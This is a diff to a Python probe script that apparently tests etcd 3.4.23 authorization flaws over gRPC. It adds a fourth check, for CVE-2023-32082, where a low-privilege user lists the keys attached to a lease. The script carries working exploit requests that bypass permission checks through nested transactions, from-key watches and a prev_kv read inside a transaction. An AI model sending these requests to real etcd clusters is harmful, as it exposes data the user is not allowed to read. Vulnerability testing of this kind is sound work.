@@ -1,11 +1,13 @@
-"""Three requests that etcd 3.4.23's auth lets through without the permission they need, sent
+"""Four requests that etcd 3.4.23's auth lets through without the permission they need, sent
 over gRPC to any endpoint by a user (alice) whose only permissions are READWRITE on key ``a``
 and WRITE on key ``w`` (which holds ``secret``): a put on ``z`` inside a nested txn
 (``checkTxnAuth`` does not look into nested txns), a watch on every key from ``a`` on
 (``--from-key``: the watch service turns ``range_end`` "\\0" into an empty one before its
-permission check, so only the key ``a`` is checked), and a put on ``w`` with ``prev_kv`` inside
+permission check, so only the key ``a`` is checked), a put on ``w`` with ``prev_kv`` inside
 a txn (a put's ``prev_kv`` needs read permission on its own, not inside a txn), which returns
-the value alice may not read."""
+the value alice may not read, and a lease time-to-live with ``keys`` on alice's lease to which
+root attached the key ``z-leased`` (3.4.23 lists the keys to anyone; CVE-2023-32082, fixed in
+3.4.26)."""
 
 from __future__ import annotations
 
@@ -68,6 +70,28 @@ def probe(target: str) -> list[str]:
             lines.append(f"txn put w prev_kv: previous value {previous!r}")
         except grpc.RpcError as error:
             lines.append(f"txn put w prev_kv: {error.code().name} {error.details()}")
+
+        lease = rpc_pb2_grpc.LeaseStub(channel)
+        granted = lease.LeaseGrant(
+            rpc_pb2.LeaseGrantRequest(TTL=60), metadata=metadata, timeout=TIMEOUT
+        )
+        root = rpc_pb2_grpc.AuthStub(channel).Authenticate(
+            rpc_pb2.AuthenticateRequest(name="root", password="r"), timeout=TIMEOUT
+        )
+        rpc_pb2_grpc.KVStub(channel).Put(
+            rpc_pb2.PutRequest(key=b"z-leased", value=b"x", lease=granted.ID),
+            metadata=(("token", root.token),),
+            timeout=TIMEOUT,
+        )
+        try:
+            listed = lease.LeaseTimeToLive(
+                rpc_pb2.LeaseTimeToLiveRequest(ID=granted.ID, keys=True),
+                metadata=metadata,
+                timeout=TIMEOUT,
+            )
+            lines.append(f"lease timetolive --keys: keys {list(listed.keys)}")
+        except grpc.RpcError as error:
+            lines.append(f"lease timetolive --keys: {error.code().name} {error.details()}")
 
         def requests() -> Iterator[rpc_pb2.WatchRequest]:
             create = rpc_pb2.WatchCreateRequest(key=b"a", range_end=b"\0")
